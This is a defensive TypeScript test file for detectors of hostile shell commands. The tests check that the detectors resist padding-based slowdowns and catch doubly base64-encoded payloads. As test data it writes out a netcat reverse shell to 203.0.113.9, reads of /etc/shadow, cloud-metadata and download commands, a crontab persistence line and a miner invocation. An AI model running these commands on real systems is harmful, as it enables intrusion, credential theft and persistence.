import { strict as assert } from 'node:assert';
import { metadataIn } from '../../../shared/detection/cloud-metadata.ts';
import { actingText } from '../../../shared/detection/command.ts';
import { credentialsIn } from '../../../shared/detection/credential-paths.ts';
import { downloadIn } from '../../../shared/detection/download.ts';
import { minerIn } from '../../../shared/detection/miner.ts';
import { persistenceIn } from '../../../shared/detection/persistence.ts';
import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';

describe('hostile command lines', () => {
  // Pieces that make a careless pattern start again at every character.
  const pieces = [
    'nc ',
    '/dev/tcp/',
    'sh -i ',
    'a|',
    '"',
    "'\\",
    '-a ',
    '4A',
    'AAAA',
    '$(',
    '|sh|',
    ' ',
    'a=1 ',
    '`',
    'x.',
    ';',
    'curl ',
    '-o',
    'a.',
    '/run/secrets/',
    'a.pem',
    '> ',
    '>(',
    '(',
    ')',
    '"$(',
    'sh -c ',
    'eval ',
    'nice ',
    'find -exec ',
    'find -exec sh -c ',
    'xargs ',
    'su -c ',
    'watch "',
    'grep a|',
    'sh -c grep a|b ',
    '{ ',
    '/../',
    '\\\n',
    '-x -exec ',
    'a=$a ',
    'a=a;$a ',
    '\\x41',
    "$'\\101'",
    'ls|',
    'ls $(ls) ',
    '1.',
    '0x1 ',
    'a:',
    '>/etc/',
    'systemctl -a ',
    'crontab -u a ',
  ];
  const LONG = 60 * 1024;

  for (const piece of pieces) {
    // A pattern that is quadratic in these exceeds mocha's timeout.
    it(`hide nothing behind ${JSON.stringify(piece)}, however often repeated`, () => {
      const padding = piece.repeat(Math.ceil(LONG / piece.length));
      assert.notEqual(minerIn(`${padding}\n./kworker --donate-level 1`), undefined);
      assert.notEqual(reverseShellIn(`${padding}\nnc -e /bin/sh 203.0.113.9 4444`), undefined);
      assert.notEqual(metadataIn(`${padding}\ncurl 169.254.169.254/`), undefined);
      assert.notEqual(credentialsIn(`${padding}\ncat /etc/shadow`), undefined);
      assert.notEqual(persistenceIn(`${padding}\necho a >> /etc/crontab`), undefined);
      assert.notEqual(downloadIn(`${padding}\nwget http://203.0.113.9/x`), undefined);
    });
  }

  it('are read only up to a limit', () => {
    assert.ok(actingText('x'.repeat(4_000_000)).length < 2_000_000);
  });

  it('hide nothing behind as much padding as an audit entry can hold', () => {
    assert.notEqual(minerIn(`sh -c #${'a'.repeat(400 * 1024)}\n./kworker --donate-level 1`), undefined);
  });

  it('hide nothing in what is encoded twice', () => {
    const encoded = Buffer.from(Buffer.from('nc -e /bin/sh 203.0.113.9 4444').toString('base64')).toString('base64');
    assert.notEqual(reverseShellIn(`sh -c echo ${encoded} | base64 -d | base64 -d | sh`), undefined);
  });

  it('do not grow without end by what is encoded', () => {
    const encoded = Array.from({ length: 12 }).reduce<string>(
      (text) => Buffer.from(text).toString('base64'),
      'id; '.repeat(2000),
    );
    assert.ok(actingText(`echo ${encoded}`).length < 5 * encoded.length);
  });
});
